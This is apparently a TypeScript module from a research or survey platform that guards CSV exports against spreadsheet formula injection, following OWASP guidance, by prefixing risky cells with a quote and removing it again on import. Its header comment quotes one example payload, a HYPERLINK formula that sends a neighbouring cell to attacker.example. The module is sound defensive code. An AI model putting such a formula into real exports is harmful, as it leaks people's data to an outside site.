/**
 * CSV that cannot attack its reader. A spreadsheet opening a CSV runs a cell that starts with `=`,
 * `+`, `-` or `@` (and, in some, a tab or carriage return) as a formula: a participant's free text
 * `=HYPERLINK("http://attacker.example/?d="&A2,"Open")` would send the row next to it to another
 * site. Following OWASP's CSV Injection guidance (https://owasp.org/www-community/attacks/CSV_Injection),
 * such a cell is written with a leading single quote, which spreadsheets show as text. Plain numbers
 * (`-3`, `+1.5`, `-2e-3`) are left alone, so R, SPSS and the import still read them as numbers.
 *
 * The quote is taken back off on import (`restoreCell`), so an exported `answers_long.csv` imports
 * exactly: a text that itself began with quotes before a formula character gets one more on the way
 * out and loses exactly one on the way in.
 */
import { stringify } from 'csv-stringify/sync'

/** The first characters that make a spreadsheet evaluate a cell. */
const formulaStart = /^'*[=+\-@\t\r]/
const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/

/**
 * A cell as it is written: a leading `'` when a spreadsheet would run it as a formula.
 *
 * @example
 * neutraliseCell('=1+1') // "'=1+1"
 * neutraliseCell('-3') // '-3' (a number)
 * neutraliseCell("'=x") // "''=x" (restoreCell gives "'=x" back)
 * neutraliseCell('AT&T') // 'AT&T'
 */
export function neutraliseCell(value: string): string {
  return formulaStart.test(value) && !plainNumber.test(value) ? `'${value}` : value
}

/**
 * The inverse of `neutraliseCell`, for reading a CSV the platform wrote.
 *
 * @example
 * restoreCell("'=1+1") // '=1+1'
 * restoreCell("'tis") // "'tis" (untouched: it was never neutralised)
 */
export function restoreCell(value: string): string {
  return /^''*[=+\-@\t\r]/.test(value) && !plainNumber.test(value.slice(1)) ? value.slice(1) : value
}

/** UTF-8's byte-order mark: Excel needs it to read a CSV as UTF-8 (Persian, accents) rather than the local code page. */
export const utf8Bom = '\uFEFF'

/** A string cell that csv-stringify writes as it is: no delimiter, quote or line break, nothing to neutralise. */
const needsCare = /[,"\r\n]|^'*[=+\-@\t\r]/

/**
 * `csv-stringify`'s `stringify`, with every string cell neutralised. Numbers, booleans and empty
 * cells are written as csv-stringify writes them.
 *
 * A row of plain string cells (the great majority of an export: codes, item names, numbers as text)
 * is joined here rather than passed through csv-stringify, whose per-cell machinery was a third of
 * an 800,000-line export's time (issue 16); a row with any other cell goes through csv-stringify.
 * The bytes are the same either way (test/server/domain/csv.test.ts compares them).
 */
export function stringifyCsv(rows: unknown[][]): string {
  let out = ''
  for (const row of rows) {
    let plain = ''
    let ok = true
    for (let i = 0; i < row.length; i++) {
      const cell = row[i]
      if (typeof cell !== 'string' || needsCare.test(cell)) {
        ok = false
        break
      }
      plain += i === 0 ? cell : `,${cell}`
    }
    out += ok ? `${plain}\n` : stringify([row], { cast: { string: (value) => neutraliseCell(value) } })
  }
  return out
}
